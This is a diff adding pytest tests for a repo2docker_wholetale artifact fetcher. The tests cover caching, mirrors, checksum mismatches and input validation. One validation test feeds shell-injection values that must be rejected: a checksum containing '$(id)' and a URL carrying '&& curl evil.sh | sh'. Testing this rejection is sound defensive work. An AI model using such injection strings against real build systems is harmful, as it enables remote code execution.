@@ -0,0 +1,116 @@
+#!/usr/bin/env python
+# -*- coding: utf-8 -*-
+
+"""Tests for `repo2docker_wholetale.artifacts`."""
+
+import hashlib
+import os
+import subprocess
+
+import pytest
+
+from repo2docker_wholetale import RockerWTStackBuildPack
+from repo2docker_wholetale.artifacts import FETCH_SCRIPT, Artifact
+
+CONTENT = b"!<arch>\ndebian-binary" * 1000
+
+
+def fetch(artifact, dest, cache=None, mirror=None):
+    """Run the fetch command of an artifact, as a build step would."""
+    bindir = os.path.dirname(dest)
+    link = os.path.join(bindir, "wt-fetch")
+    if not os.path.exists(link):
+        os.symlink(FETCH_SCRIPT, link)
+    env = dict(os.environ, PATH="{}:{}".format(bindir, os.environ["PATH"]))
+    if cache:
+        env["WT_ARTIFACT_CACHE"] = cache
+    return subprocess.run(
+        ["sh", "-c", artifact.fetch(dest, mirror)], env=env, stderr=subprocess.PIPE
+    )
+
+
+@pytest.fixture
+def deb(origin):
+    origin.files["/rstudio.deb"] = CONTENT
+    digest = hashlib.sha512(CONTENT).hexdigest()
+    return Artifact(origin.url + "/rstudio.deb", "sha512:" + digest)
+
+
+def test_second_fetch_from_cache(origin, deb, tmp_path):
+    cache = str(tmp_path / "cache")
+    for build in ("first", "second"):
+        (tmp_path / build).mkdir()
+        dest = str(tmp_path / build / "rstudio.deb")
+        assert fetch(deb, dest, cache).returncode == 0
+        with open(dest, "rb") as fp:
+            assert fp.read() == CONTENT
+
+    assert origin.requests == ["/rstudio.deb"]
+
+
+def test_fetch_from_mirror(origin, deb, tmp_path):
+    algorithm, digest = deb.checksum.split(":")
+    (tmp_path / "mirror" / algorithm).mkdir(parents=True)
+    (tmp_path / "mirror" / algorithm / digest).write_bytes(CONTENT)
+    (tmp_path / "build").mkdir()
+    dest = str(tmp_path / "build" / "rstudio.deb")
+
+    result = fetch(deb, dest, mirror="file://{}/mirror".format(tmp_path))
+
+    assert result.returncode == 0
+    assert origin.requests == []
+    with open(dest, "rb") as fp:
+        assert fp.read() == CONTENT
+
+
+def test_checksum_mismatch(origin, tmp_path):
+    origin.files["/rstudio.deb"] = b"tampered"
+    artifact = Artifact(origin.url + "/rstudio.deb", "md5:" + "0" * 32)
+    cache = tmp_path / "cache"
+    (tmp_path / "build").mkdir()
+    dest = tmp_path / "build" / "rstudio.deb"
+
+    result = fetch(artifact, str(dest), str(cache))
+
+    assert result.returncode != 0
+    assert b"checksum" in result.stderr
+    assert not dest.exists()
+    assert not cache.exists()
+
+
+def test_invalid_checksum():
+    with pytest.raises(ValueError, match="expected <algorithm>:<hex digest>"):
+        Artifact("https://example.org/file.deb", "crc32:1234")
+    # Digests end up in the shell of the build steps
+    for checksum in ("sha256:" + "a" * 63, "md5:$(id)" + "0" * 27, "sha1:" + "g" * 40):
+        with pytest.raises(ValueError, match="Invalid checksum"):
+            Artifact("https://example.org/file.deb", checksum)
+    assert Artifact("https://example.org/f", "sha256:" + "AB" * 32).checksum == (
+        "sha256:" + "ab" * 32
+    )
+    with pytest.raises(ValueError, match="Invalid artifact URL"):
+        Artifact('https://example.org/f.deb" && curl evil.sh | sh "', "md5:" + "0" * 32)
+    # Nothing is downloaded unverified
+    for checksum in (None, "", "url:" + "0" * 64):
+        with pytest.raises(ValueError, match="Invalid checksum"):
+            Artifact("https://example.org/file.deb", checksum)
+
+
+def test_rocker_fetches_rstudio_through_cache(make_tale):
+    make_tale("RockerBuildPack")
+    bp = RockerWTStackBuildPack()
+    bp.use_cache_mounts = True
+    bp.artifact_mirror = "http://mirror.local/wt"
+    assert bp.detect()
+    dockerfile = bp.render()
+
+    # Only the fetch stage needs it
+    assert "/usr/local/bin/wt-fetch" not in bp.get_build_script_files().values()
+    assert dockerfile.count("/usr/local/bin/wt-fetch") == 1
+    assert (
+        "target=/var/cache/wt/artifacts,sharing=shared,uid=1000,gid=1000 \\\n"
+        "export WT_ARTIFACT_CACHE=/var/cache/wt/artifacts && \\\n"
+        "mkdir -p /artifacts && cd /artifacts && \\\n"
+        "WT_ARTIFACT_MIRROR=http://mirror.local/wt wt-fetch "
+    ) in dockerfile
+    assert "md5:1d2bbd588f9a3ac00580939d4812a7d1 rstudio.deb" in dockerfile